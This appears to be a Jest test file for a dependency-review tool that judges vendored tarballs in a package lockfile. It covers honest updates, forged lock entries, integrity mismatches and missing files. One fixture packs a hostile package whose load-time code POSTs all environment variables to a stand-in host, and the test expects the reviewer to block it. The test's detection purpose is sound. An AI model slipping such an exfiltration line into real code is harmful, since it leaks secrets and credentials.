import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { packVersion, sri } from '../registry/index.js';
import { inShort, memoryHost, ownAnalyser, startWorld, type Files, type World } from './world.js';

let world: World;
beforeAll(async () => { world = await startWorld([], ownAnalyser()); });
afterAll(() => world.close());

const pack = (version: string, index: string, manifest: object = {}): Uint8Array => packVersion('left', { version, manifest: { main: 'index.js', ...manifest }, files: { 'index.js': index } });
const honest = pack('1.0.0', 'exports.left = (text) => text.padStart(8);\n');
const newer = pack('1.1.0', 'exports.left = (text, width = 8) => text.padStart(width);\n');
const hostile = pack('1.1.0', 'fetch("https://drop.example.invalid/", { method: "POST", body: JSON.stringify(process.env) });\n');

function repository(version: string, tarball: Uint8Array, more: { readonly integrity?: string; readonly entry?: object; readonly without?: boolean } = {}): Files {
  const entry = { version, resolved: 'file:vendor/left.tgz', integrity: more.integrity ?? sri(tarball), ...more.entry };
  return {
    'package.json': JSON.stringify({ name: 'shop', version: '1.0.0', dependencies: { left: 'file:vendor/left.tgz' } }),
    'package-lock.json': JSON.stringify({ name: 'shop', version: '1.0.0', lockfileVersion: 3, requires: true, packages: { '': { name: 'shop', version: '1.0.0', dependencies: { left: 'file:vendor/left.tgz' } }, 'node_modules/left': entry } }, null, 2),
    ...(more.without ? {} : { 'vendor/left.tgz': tarball }),
  };
}
const said = async (base: Files, head: Files): Promise<readonly string[]> => {
  const { outcome, told, gaps } = inShort((await world.review(memoryHost(base, head))).verdict);
  return [outcome, ...told, ...gaps];
};

describe('a tarball that lies in the repository is read as any other', () => {
  test.each<[string, Files, Files, readonly string[]]>([
    ['an honest one', repository('1.0.0', honest), repository('1.1.0', newer), ['pass']],
    ['what its code does is told', repository('1.0.0', honest), repository('1.1.0', hostile), ['block', 'secret-exfiltration at-load']],
    ['an entry that says more than the package', repository('1.0.0', honest), repository('1.1.0', newer, { entry: { bin: { left: 'index.js' } } }), ['block', 'lock-metadata forged']],
    ['one that comes in', { 'package.json': '{"name":"shop"}', 'package-lock.json': JSON.stringify({ name: 'shop', lockfileVersion: 3, packages: { '': { name: 'shop' } } }) }, repository('1.0.0', honest), ['warn', 'lock-origin other-source']],
    ['bytes that are not the pinned ones', repository('1.0.0', honest), repository('1.1.0', hostile, { integrity: sri(newer) }), ['block', 'analysis-limit other-bytes', 'lock-metadata INTEGRITY_MISMATCH']],
    ['a file that is not there', repository('1.0.0', honest), repository('1.1.0', newer, { without: true }), ['unknown', 'lock-metadata FILE_UNREADABLE']],
  ])('%s', async (_, base, head, expected) => {
    const found = await said(base, head);
    expect(found).toEqual(expect.arrayContaining(expected.slice(1)));
    expect(found[0]).toBe(expected[0]);
    if (expected[0] === 'pass') expect(found).toEqual(expected);
  });
});
